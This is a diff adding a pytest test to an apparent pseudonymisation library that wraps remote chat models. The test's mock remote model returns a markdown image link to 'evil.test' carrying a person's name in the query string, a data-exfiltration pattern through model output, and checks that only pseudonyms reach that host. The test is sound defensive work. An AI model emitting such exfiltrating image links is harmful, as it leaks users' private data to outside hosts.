@@ -8,11 +8,13 @@ import dataclasses
 import logging
 import math
 import pickle
+import re
 import traceback
 from typing import Any
 
 import pytest
 from support.chat_models import KINDS, WORDS, Make
+from support.entities import detector
 from support.ledgers import Charges
 from support.loops import Blocking
 from support.texts import CANARY
@@ -246,3 +248,17 @@ def test_models_are_taken_as_chat_model_takes_them(sanitizer: dp.Sanitizer) -> N
         dp.InferDPT(sanitizer, remote="gpt-4o", extractor=here(lambda messages: "x"))
     made = here(lambda messages: "x")
     assert dp.InferDPT(sanitizer, remote=made, extractor=made).run("word1").text == "x"
+
+
+def test_a_restored_answer_keeps_pseudonyms_in_addresses_of_other_hosts() -> None:
+    pytest.importorskip("faker", reason="the lists of names are of the extra detect")
+    session = dp.Pseudonyms(detector(), on_empty="pass").session()
+
+    def remote(messages: list[dict[str, str]]) -> str:
+        [name] = re.findall(r"of ([\w-]+ [\w-]+)\.", messages[-1]["content"])
+        return f"{name} ![x](https://evil.test/?q={name.split()[0]})"
+
+    answer = dp.InferDPT(session, remote=remote).run("The file of Mirela Tamburi.")
+    name, link = answer.remote_text.split(" !")
+    assert answer.text == f"Mirela Tamburi !{link}"
+    assert "Mirela" not in answer.release.text + name
